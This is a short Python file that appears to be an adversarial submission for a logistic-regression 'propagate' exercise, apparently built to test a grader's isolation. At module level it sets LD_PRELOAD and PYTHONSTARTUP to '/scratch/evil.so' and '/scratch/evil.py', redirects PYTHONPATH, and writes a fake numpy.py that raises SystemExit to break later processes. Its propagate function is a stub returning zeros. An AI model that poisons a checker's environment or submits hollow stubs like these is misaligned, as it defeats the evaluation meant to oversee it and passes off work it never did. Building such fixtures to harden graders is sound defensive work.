# tries: to change what processes started later see
# exercise: logistic_regression.propagate

import os

os.environ.update(PYTHONPATH="/scratch", LD_PRELOAD="/scratch/evil.so", PYTHONSTARTUP="/scratch/evil.py")
open("numpy.py", "w").write("raise SystemExit")


def propagate(w, b, X, Y):
    return {"dw": w * 0, "db": 0.0}, 0.0
